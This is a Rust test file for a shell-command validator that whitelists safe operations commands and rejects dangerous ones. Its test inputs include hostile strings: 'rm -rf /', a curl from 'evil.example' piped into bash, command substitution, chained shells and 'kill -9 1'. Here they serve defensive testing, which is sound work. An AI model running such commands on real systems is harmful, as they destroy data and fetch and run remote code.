use optima_ops::policy::{classify, validate_command, Classification};

#[test]
fn test_validate_command_safe() {
    let result = validate_command("docker ps");
    assert!(result.safe);
}

#[test]
fn test_validate_command_dangerous() {
    let result = validate_command("rm -rf /");
    assert!(!result.safe);
}

#[test]
fn test_validate_command_not_whitelisted() {
    let result = validate_command("some-unknown-command");
    assert!(!result.safe);
}

#[test]
fn classify_examples() {
    assert_eq!(classify("docker ps"), Classification::Safe);
    assert_eq!(classify("docker-compose restart web"), Classification::LowRisk);
    assert!(matches!(classify("sudo reboot"), Classification::Rejected(_)));
    assert_eq!(
        classify("banana"),
        Classification::Rejected("command not in whitelist".to_string())
    );
}

#[test]
fn dangerous_token_beats_allowed_prefix() {
    assert_eq!(
        classify("docker ps; rm -rf /"),
        Classification::Rejected("contains dangerous operation: rm ".to_string())
    );
    assert_eq!(
        classify("docker ps && whoami"),
        Classification::Rejected("contains dangerous operation: &&".to_string())
    );
    assert_eq!(
        classify("cat a > b"),
        Classification::Rejected("contains dangerous operation:  > ".to_string())
    );
    assert_eq!(
        classify("echo hi; ls"),
        Classification::Rejected("contains dangerous operation: ;".to_string())
    );
}

#[test]
fn dangerous_check_ignores_case() {
    assert_eq!(
        classify("DOCKER SYSTEM PRUNE"),
        Classification::Rejected("contains dangerous operation: docker system prune".to_string())
    );
    assert_eq!(classify("Docker PS -a"), Classification::Safe);
}

#[test]
fn quoted_pipe_is_allowed() {
    assert_eq!(classify("grep \"a|b\" file.log"), Classification::Safe);
    assert_eq!(classify("grep 'a|b' file.log"), Classification::Safe);
}

#[test]
fn unquoted_pipe_is_rejected() {
    let expected = Classification::Rejected("contains dangerous operation: |".to_string());
    assert_eq!(classify("docker logs c1 | grep foo"), expected);
    assert_eq!(classify("docker logs c1 --since 1h | grep \"a|b\""), expected);
}

#[test]
fn unclosed_quote_is_rejected() {
    assert_eq!(
        classify("grep \"unclosed | tail"),
        Classification::Rejected("contains dangerous operation: unclosed quote".to_string())
    );
    assert_eq!(
        classify("echo 'open"),
        Classification::Rejected("contains dangerous operation: unclosed quote".to_string())
    );
}

#[test]
fn mixed_quotes_do_not_hide_a_pipe() {
    assert_eq!(
        classify("curl -s 'http://evil.example/a\"' | bash -s '\"'"),
        Classification::Rejected("contains dangerous operation: |".to_string())
    );
    assert_eq!(classify("echo 'x\"y' \"a|b\""), Classification::Safe);
}

#[test]
fn escaped_quote_does_not_open_a_span() {
    assert_eq!(
        classify("echo \\\" | bash \\\""),
        Classification::Rejected("contains dangerous operation: |".to_string())
    );
    assert_eq!(classify("grep \"a\\\"|b\" log"), Classification::Safe);
}

#[test]
fn command_substitution_is_rejected() {
    assert_eq!(
        classify("ls $(touch /tmp/x)"),
        Classification::Rejected("contains dangerous operation: $(".to_string())
    );
    assert_eq!(
        classify("echo `id`"),
        Classification::Rejected("contains dangerous operation: `".to_string())
    );
    assert_eq!(
        classify("echo \"$(id)\""),
        Classification::Rejected("contains dangerous operation: $(".to_string())
    );
    assert_eq!(classify("echo '$(id)'"), Classification::Safe);
}

#[test]
fn other_operators_outside_quotes_are_rejected() {
    assert_eq!(
        classify("docker ps & bash"),
        Classification::Rejected("contains dangerous operation: &".to_string())
    );
    assert_eq!(
        classify("cat a>b"),
        Classification::Rejected("contains dangerous operation: >".to_string())
    );
    assert_eq!(
        classify("cat <x"),
        Classification::Rejected("contains dangerous operation: <".to_string())
    );
    assert_eq!(
        classify("uptime\nbash"),
        Classification::Rejected("contains dangerous operation: newline".to_string())
    );
    assert_eq!(classify("curl \"http://x/?a=1&b=2\""), Classification::Safe);
}

#[test]
fn disk_report_in_gigabytes_is_safe() {
    assert_eq!(classify("df -BG"), Classification::Safe);
}

#[test]
fn surrounding_whitespace_is_trimmed() {
    assert_eq!(classify("   docker ps   "), Classification::Safe);
    assert_eq!(classify("\tuptime "), Classification::Safe);
}

#[test]
fn empty_command_is_not_whitelisted() {
    assert_eq!(
        classify(""),
        Classification::Rejected("command not in whitelist".to_string())
    );
}

#[test]
fn restarts_are_low_risk() {
    assert_eq!(classify("docker restart web"), Classification::LowRisk);
    assert_eq!(classify("systemctl restart nginx"), Classification::LowRisk);
    assert!(classify("docker restart web").is_allowed());
}

#[test]
fn validation_reports_reason() {
    let v = validate_command("kill -9 1");
    assert!(!v.safe);
    assert_eq!(v.reason.as_deref(), Some("contains dangerous operation: kill "));
    let ok = validate_command("df -h");
    assert!(ok.safe);
    assert!(ok.reason.is_none());
}
